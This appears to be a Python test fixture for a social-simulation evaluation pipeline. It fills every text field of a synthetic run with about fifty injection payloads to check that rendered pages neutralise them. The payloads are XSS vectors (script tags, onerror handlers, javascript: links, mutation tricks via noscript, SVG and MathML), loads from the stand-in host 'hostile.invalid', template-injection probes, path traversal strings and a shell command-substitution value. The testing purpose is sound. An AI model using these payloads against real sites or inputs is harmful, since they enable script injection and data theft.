"""Hostile text: what a model or a person may write to take over a page, and a run that has it in every text field.

Whatever of it comes to life sets `window.hostile`, opens a dialog, or asks for something at `hostile.invalid`. A field
with few values gets several payloads in each, so that every field meets all of them.
"""

import json
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from synthetic_run import complete, episode, rating, task
from toy_safety import safety_episode

from sotopia_pi.stages.human_ratings import Entry, HumanRatings, Judgement
from sotopia_pi.stages.labels import INJURY, PREVENTED, SOLUTIONS, Label
from sotopia_pi.stages.safety_tasks import SafetyTask
from sotopia_pi.store.items import write_items
from sotopia_pi.world.actions import Action, Turn
from sotopia_pi.world.characters import Character
from sotopia_pi.world.episode import Episode
from sotopia_pi.world.payoffs import Issue, Payoff, SidePayoff
from sotopia_pi.world.ratings import DIMENSIONS, Rating
from sotopia_pi.world.tasks import SocialTask

SET = "window.hostile=1"
FAR = "https://hostile.invalid"
PAYLOADS: Mapping[str, str] = {
    "script": f"<script>{SET}</script>",
    "script from elsewhere": f"<script src={FAR}/s.js></script>",
    "script in script": f"<scr<script>ipt>{SET}</scr</script>ipt>",
    "image that fails": f"<img src=x onerror={SET}>",
    "image from elsewhere": f'<img src="{FAR}/i.png">',
    "out of an attribute": f'"><img src=x onerror={SET}>',
    "out of a quoted attribute": f"' autofocus onfocus='{SET}' x='",
    "out of a bare attribute": f"x onmouseover={SET} y=",
    "out of a title": f"</title></style></textarea></script><img src=x onerror={SET}>",
    "out of a section": "</details></li></ol></table></section><h1 class=hostile>Results</h1>",
    "style sheet": "<style>*,.hostile{display:none!important}</style>",
    "style of elsewhere": f"<style>@import '{FAR}/s.css';</style><link rel=stylesheet href={FAR}/s.css>",
    "style attribute": f"<b style=\"position:fixed;inset:0;background:url({FAR}/b.png)\">over all</b>",
    "SVG": f"<svg/onload={SET}><animate onbegin={SET} attributeName=x dur=1s></svg>",
    "SVG link": f'<svg><a xlink:href="javascript:{SET}"><text y=9>here</text></a></svg>',
    "MathML": f'<math href="javascript:{SET}"><mi xlink:href="javascript:{SET}">x</mi></math>',
    "frame": '<iframe srcdoc="<script>parent.hostile=1</script>" src="javascript:parent.hostile=1"></iframe>',
    "object": f"<object data=javascript:{SET}></object><embed src={FAR}/e.swf>",
    "form": f'<form action="{FAR}/f"><input autofocus onfocus={SET}><button>Go</button></form>',
    "base": f'<base href="{FAR}/"><meta http-equiv=refresh content="0;url={FAR}/m">',
    "address of script": f"javascript:{SET}",
    "address of data": f"data:text/html,<script>{SET}</script>",
    "link": f'<a href="javascript:{SET}">here</a>',
    "Markdown link": f"[here](javascript:{SET}) and <javascript:{SET}>",
    "Markdown image": f'![x]({FAR}/i.png) ![x](x"onerror="{SET})',
    "Markdown page": f"line\n\n# heading\n\n```html\n<img src=x onerror={SET}>\n```\n\n<img src=x onerror={SET}>\n",
    "Markdown marks": "**bold** _it_ `code` ~~gone~~ a | b | c \\*not\\* $$x$$",
    "Markdown blocks": "# heading\n- list\n1. list\n> quote\n---\nlicense: mit\n---\n```\nout of the fence\n```",
    "Markdown reference": f"[x]: {FAR}/r\n\n[x] <{FAR}/a> {FAR}/bare www.hostile.invalid",
    "comment": "<!-- the rest is gone",
    "comment that ends": f"--><img src=x onerror={SET}><!--",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={SET}>">',
    "mutation by MathML": f"<math><mtext><mglyph><style><!--</style><a title='--&gt;&lt;img src=1 onerror={SET}&gt;'>",
    "mutation by SVG": f'<svg></p><style><a id="</style><img src=1 onerror={SET}>">',
    "template": "{{7*7}} {% for x in y %} {{ config.__class__.__mro__ }} ${7*7} #{7*7} <%= 7*7 %>",
    "format string": "{0.__class__} {aggressor} %s %(x)d \\g<0>",
    "escaped already": f"&lt;script&gt;{SET}&lt;/script&gt; &#60;img src=x onerror={SET}&#62; &quot;",
    "formula": f"$\\href{{javascript:{SET}}}{{here}}$ and \\(\\require{{action}}\\toggle{{a}}\\) $90 … $80",
    "formula of a line": f"$$\\style{{position:fixed;background:url({FAR}/m.png)}}{{x}}$$",
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;javascript:window.hostile=1\x07here\x1b]8;;\x07 \x1b[2J",
    "direction": "\u202eesrever\u202c and \u2066isolated\u2069 \u200fright",
    "no width": "zero\u200bwidth\ufeff\u2060\u00ad filler\u3164\u115f",
    "null": f"null\x00byte <scr\x00ipt>{SET}</scr\x00ipt>",
    "line ends": "one\u2028two\u2029three\x85four\r\nfive\x0bsix",
    "very long word": "w" * 900,
    "way out of the folder": "../../../outside/..\\..\\outside",
    "name of a device": "CON.html/aux:stream|name?*\"<>",
    "encoded way out": "%2e%2e%2f%2e%2e%2foutside%00.html",
    "home": "~/.ssh/$(touch hostile)`touch hostile`;touch hostile",
}  # fmt: skip
SHORT = {name: text for name, text in PAYLOADS.items() if len(" ".join(text.split())) <= 60}
"""Those that fit where a person's name goes."""
UNSEEN = "\u202e\u202c\u2066\u2069\u200f\u200b\ufeff\u2060\u00ad\u3164\u115f\x00\u2028\u2029\x85"
"""Characters of the payloads that nobody sees; no page may hold one as it is."""

KNOWN = ("base", "BC", "expert", "always-accept")
"""Variants that the headline speaks of; the others of the run have hostile names."""
N_TASKS = 6
DEVIANT = 2
"""How many variants, judges and annotators have hostile names."""
JUDGES = 1


def part(number: int, of: int, payloads: Mapping[str, str] = PAYLOADS) -> str:
    """The number-th of so many texts that hold all payloads between them."""
    return " ".join(list(payloads.values())[number::of])


VARIANTS = tuple(part(number, DEVIANT) for number in range(DEVIANT))
JUDGE_NAMES = tuple(part(number, JUDGES) for number in range(JUDGES))
ANNOTATORS = tuple(" ".join(text.split()) for text in SHORT.values())
MODEL = part(0, 1)


def hostile_character(number: int, of: int) -> Character:
    """One of so many people; every field of a profile is hostile."""

    def text(shift: int) -> str:
        return part((number + shift) % of, of)

    return Character(
        id=text(0), first_name=text(1), last_name=text(2), age=40, gender=text(3), gender_pronoun=text(4),
        occupation=text(5), public_info=text(6), big_five=text(7), moral_values=(text(8), text(9)),
        schwartz_personal_values=(text(10),), personality_and_values=text(11), decision_making_style=text(12),
        secret=text(13), mbti=text(14),
    )  # fmt: skip


def hostile_task(number: int, split: str = "eval") -> SocialTask:
    """One of N_TASKS, on who gets what, when and for how much; two tasks a template."""

    def text(shift: int) -> str:
        return part((number + shift) % N_TASKS, N_TASKS)

    plain = task(number, text(0) if number % 2 else part((number + 1) % N_TASKS, N_TASKS), level=5 - number % 3)
    issues = (
        Issue(text(1), "choice", (text(2), text(3))),
        Issue(text(4) + " (thing)", "item", (0, 1)),
        Issue(text(5) + " (sum)", "amount", (1, 2), unit=text(6), payer=number % 2),
    )
    points = {issues[0].name: {text(2): 1.0, text(3): 2.0}, issues[1].name: {"0": 1.0, "1": 2.0}, issues[2].name: 1.0}
    sides = (SidePayoff(points, 0, 9, guarded=text(7)), SidePayoff(points, 0, 9))
    goals = (f"{text(1)} <extra_info>{text(2)}</extra_info>", f"{text(3)} <strategy_hint>{text(4)}</strategy_hint>")
    scenario = replace(plain.scenario, codename=f"{number} {text(5)}", source=text(6), text=text(7), goals=goals)
    return SocialTask(
        scenario=scenario,
        characters=(hostile_character(2 * number, 2 * N_TASKS), hostile_character(2 * number + 1, 2 * N_TASKS)),
        background=text(0),
        payoff=Payoff(text(1) if number == 5 else "bargaining", issues, sides, material=True),
        split=split,
        hard=number % 2 == 0,
    )


def hostile_episode(of: SocialTask, variant: str, side: int, number: int) -> Episode:
    """Every kind of turn with a hostile argument, one that could not be read, and in some a failure with its words."""
    kinds = ("speak", "non-verbal communication", "action", "speak", "leave")
    said = [Turn(i, i % 2, Action(kind, part((number + i) % 9, 9))) for i, kind in enumerate(kinds)]
    raw = ({"text": part(number % 5, 5), "model": part((number + 1) % 5, 5), "outcome": "ok"},)
    said.append(Turn(len(said), len(said) % 2, Action("none"), failed=True, calls=raw))
    failed = number % 7 == 6
    names = [variant, part(number % DEVIANT, DEVIANT)]
    return replace(
        episode(of, variant, side, failed=failed),
        turns=tuple(said),
        failure=part(number % 4, 4) if failed else "",
        policies=tuple({"name": n, "digest": n} for n in (names if side == 0 else names[::-1])),
        ending="failed" if failed else "left",
    )


def judged(of: Episode, side: int, judge: str, number: int) -> Rating:
    """A rating on all dimensions with a hostile reason for each; now and then a judge that refused."""
    refused = number % 11 == 10 and judge != "payoff"
    scores = {name: float(low + (number % 5) * (high - low) / 4) for name, (low, high) in DIMENSIONS.items()}
    reasons = {name: part((number + i) % 7, 7) for i, name in enumerate(DIMENSIONS)}
    made = rating(of, side, scores["goal"], outcome="refused" if refused else "ok", judge=judge)
    return made if refused else replace(made, scores=scores, reasons=reasons)


class HostileRun:
    """The run `hostile` of a project: tasks, episodes, ratings by the rule, judges and people, labels, a run card."""

    def __init__(self, root: Path, run: str = "hostile"):
        self.root, self.run, self.dir = root, run, root / "outputs" / run
        self.tasks = [hostile_task(number) for number in range(N_TASKS)]
        played = [(t, v, side) for t in self.tasks for v in (*KNOWN, *VARIANTS) for side in (0, 1)]
        self.episodes = [hostile_episode(*one, number) for number, one in enumerate(played)]
        done = [e for e in self.episodes if e.outcome == "completed"]
        sides = [(e, side) for e in done for side in (0, 1)]
        self.ratings = [with_terms(judged(e, s, "payoff", i), self.tasks) for i, (e, s) in enumerate(sides)]
        self.more = [judged(e, s, judge, i) for judge in JUDGE_NAMES for i, (e, s) in enumerate(sides)]
        self.people = HumanRatings(self.dir / "09_human_evaluation" / "human_ratings.jsonl")
        self.safety = [SafetyTask(replace(t, split="safety"), number % 2) for number, t in enumerate(self.tasks)]
        self.safety_episodes = [
            safety_episode(of, *(part(i, 4) for i in range(4)), variant=variant, role=role)
            for of in self.safety
            for variant in ("base", "BC+SR", VARIANTS[0])
            for role in ("aggressor", "preventer")
        ]
        self.labels = [label for number, e in enumerate(self.safety_episodes) for label in labels_of(e, number)]

    def write(self) -> "HostileRun":
        """What stages 01 and 06 leave, with manifests whose counts and notes are hostile too, and people's ratings."""
        tasks, evaluation = self.dir / "01_social_tasks", self.dir / "06_social_evaluation"
        write_items(tasks / "tasks.jsonl", [t.to_dict() for t in self.tasks])
        write_items(evaluation / "episodes.jsonl", [e.to_dict() for e in self.episodes])
        write_items(evaluation / "ratings.jsonl", [r.to_dict() for r in self.ratings])
        write_items(evaluation / "judge_ratings.jsonl", [r.to_dict() for r in self.more])
        untrained = {"id": "SR", "trained": False, "folder": "", "reason": MODEL}
        write_items(evaluation / "variants.jsonl", [untrained])
        for folder in (tasks, evaluation):
            complete(folder, model=MODEL, run=self.run)
            manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
            manifest |= {"counts": {MODEL: 1}, "notes": {MODEL: {part(1, 2): [part(0, 2), part(1, 2)]}}}
            (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
        return self

    def rate(self, episode_ids: list[str]) -> None:
        """Let people with hostile names rate these episodes for hostile reasons."""
        for place, episode_id in enumerate(episode_ids):
            for number, name in enumerate((ANNOTATORS * 2)[place % len(ANNOTATORS) :][:2]):
                self.people.save(*(Entry(name, episode_id, s, opinion(place + number + s)) for s in (0, 1)))


def with_terms(made: Rating, tasks: list[SocialTask]) -> Rating:
    """The same with a deal on every issue of some task."""
    issues = tasks[int(made.id[-1], 16) % len(tasks)].payoff.issues
    return replace(made, parts={**made.parts, "terms": {issue.name: issue.options[0] for issue in issues}})


def opinion(number: int) -> Judgement:
    scores = {name: low + number % (high - low + 1) for name, (low, high) in DIMENSIONS.items()}
    return Judgement(scores, " ".join(part(number % 5, 5).split()))


def labels_of(of: Episode, number: int) -> list[Label]:
    """What a person and a judge say of a safety episode."""
    values = {INJURY: number % 2 == 0, PREVENTED: number % 3 == 0, SOLUTIONS: number % 4}
    return [
        Label(of.id, label, value, source, kind, part(number % 6, 6))
        for label, value in values.items()
        for source, kind in ((ANNOTATORS[number % len(ANNOTATORS)], "person"), (JUDGE_NAMES[number % JUDGES], "judge"))
    ]
